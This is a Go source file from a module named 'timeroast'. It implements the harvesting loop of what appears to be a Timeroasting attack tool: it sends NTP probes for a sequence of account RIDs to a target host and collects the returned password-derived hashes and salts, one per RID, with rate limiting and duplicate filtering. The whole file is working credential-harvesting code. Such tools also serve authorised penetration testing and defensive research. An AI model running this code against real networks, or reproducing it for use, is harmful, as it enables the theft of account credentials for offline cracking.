package harvest

import (
	"context"
	"net"
	"time"

	log "github.com/sirupsen/logrus"

	"timeroast/internal/limiter"
	"timeroast/internal/ntp"
	"timeroast/internal/targets"
)

// Result is one harvested hash. Values are copies; they never alias the
// receive buffer.
type Result struct {
	RID  uint32
	Hash [16]byte
	Salt [48]byte
}

// Run is the state of one harvest against one host. It is a pull iterator:
//
//	for run.Next() {
//		res := run.Result()
//	}
//	if err := run.Err(); err != nil { ... }
//
// A Run is not safe for concurrent use, except for its Stats.
type Run struct {
	ctx   context.Context
	sock  Socket
	raddr *net.UDPAddr
	rids  targets.Iterator
	tpl   ntp.Template
	flag  uint32

	interval time.Duration
	giveUp   time.Duration
	limit    *limiter.TokenBucket

	lastOK    time.Time
	started   time.Time
	seen      map[uint32]struct{}
	exhausted bool

	query []byte
	buf   [ntp.MaxReadLen]byte
	cur   Result
	err   error
	done  bool

	rec   Recorder
	stats *Stats
	log   *log.Entry
}

// Next advances the loop until a new RID is harvested, and reports whether
// one was. It returns false once no valid reply has been seen for the
// give-up duration, on a transport error, or when the context is done; in
// every case the socket has been released by then.
//
// Once the RID sequence is exhausted Next keeps listening, without sending,
// until the give-up window elapses, so that late replies are still caught.
func (r *Run) Next() bool {
	if r.done {
		return false
	}
	for {
		if err := r.ctx.Err(); err != nil {
			r.finish(err)
			return false
		}
		if !time.Now().Before(r.lastOK.Add(r.giveUp)) {
			r.log.Debugf("no valid reply for %v, giving up", r.giveUp)
			r.finish(nil)
			return false
		}

		if err := r.sendNext(); err != nil {
			r.finish(err)
			return false
		}

		ready, err := r.sock.WaitReadable(r.waitFor())
		if err != nil {
			r.finish(err)
			return false
		}
		if !ready {
			continue
		}

		n, from, err := r.sock.ReadFrom(r.buf[:])
		if err != nil {
			r.finish(err)
			return false
		}
		if r.receive(r.buf[:n], from) {
			return true
		}
	}
}

// waitFor bounds the readiness wait by the query interval, and while RIDs
// remain, by the time until the limiter grants the next probe.
func (r *Run) waitFor() time.Duration {
	wait := r.interval
	if !r.exhausted {
		if d := r.limit.Delay(); d < wait {
			wait = d
		}
	}
	return wait
}

// sendNext writes a probe for the next RID, if there is one and the rate
// limiter allows it. An iteration woken early by a reply finds no token
// and sends nothing, so a reply flood cannot push the send rate above
// Rate; the probe goes out on the first iteration after the token is due.
func (r *Run) sendNext() error {
	if r.exhausted || !r.limit.TryTake() {
		return nil
	}
	rid, ok := r.rids.Next()
	if !ok {
		r.exhausted = true
		r.log.Debugf("all RIDs sent after %v, waiting for late replies", time.Since(r.started).Truncate(time.Millisecond))
		return nil
	}
	r.query = r.tpl.AppendQuery(r.query[:0], rid, r.flag)
	if _, err := r.sock.WriteTo(r.query, r.raddr); err != nil {
		return err
	}
	r.stats.Sent.Add(1)
	return nil
}

// receive handles one datagram and reports whether it produced a new result.
func (r *Run) receive(b []byte, from net.Addr) bool {
	r.stats.Received.Add(1)
	if r.rec != nil {
		if err := r.rec.Record(from, r.sock.LocalAddr(), b); err != nil {
			r.log.Warnf("capture: %v", err)
		}
	}

	reply, ok := ntp.DecodeReply(b, r.flag)
	if !ok {
		r.stats.Malformed.Add(1)
		if r.log.Logger.IsLevelEnabled(log.DebugLevel) {
			hdr, herr := ntp.DescribeHeader(b)
			if herr != nil {
				r.log.Debugf("dropped %d-byte datagram from %v", len(b), from)
			} else {
				r.log.Debugf("dropped %d-byte datagram from %v (%s)", len(b), from, hdr)
			}
		}
		return false
	}

	// Any well-formed reply proves the server is still answering.
	r.lastOK = time.Now()

	if _, dup := r.seen[reply.RID]; dup {
		r.stats.Duplicates.Add(1)
		return false
	}
	r.seen[reply.RID] = struct{}{}
	r.stats.Harvested.Add(1)
	r.cur = Result{RID: reply.RID, Hash: reply.Hash, Salt: reply.Salt}
	return true
}

// Result returns the result found by the last successful Next.
func (r *Run) Result() Result { return r.cur }

// Err returns the error that ended the run, if any. Giving up after the
// idle timeout is not an error.
func (r *Run) Err() error { return r.err }

// Stats returns the counters this run updates.
func (r *Run) Stats() *Stats { return r.stats }

// Collect drains the run and returns every result in arrival order.
func (r *Run) Collect() ([]Result, error) {
	var out []Result
	for r.Next() {
		out = append(out, r.Result())
	}
	return out, r.Err()
}

// Close releases the socket. Safe to call at any point and more than once;
// a consumer that stops pulling early must call it.
func (r *Run) Close() error {
	if r.done {
		return nil
	}
	r.done = true
	return r.sock.Close()
}

func (r *Run) finish(err error) {
	r.err = err
	if cerr := r.Close(); cerr != nil && r.err == nil {
		r.err = cerr
	}
	r.log.Debugf("harvest finished after %v: %d distinct RIDs", time.Since(r.started).Truncate(time.Millisecond), len(r.seen))
}
